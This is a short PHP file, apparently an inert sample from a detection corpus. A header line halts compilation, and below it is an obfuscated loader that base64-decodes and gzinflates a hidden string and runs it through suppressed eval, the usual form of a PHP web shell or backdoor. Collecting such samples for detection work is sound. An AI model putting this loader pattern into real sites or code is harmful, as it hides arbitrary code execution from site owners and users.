<?php __halt_compiler(); /* hegui corpus: inert sample - PHP stops compiling here */ ?>
<?php
$z = 'K0gsLi7JKCrVUIkPcg0MdQ0OiVYvTVaP1bQGAA==';
@eval(gzinflate(base64_decode($z)));
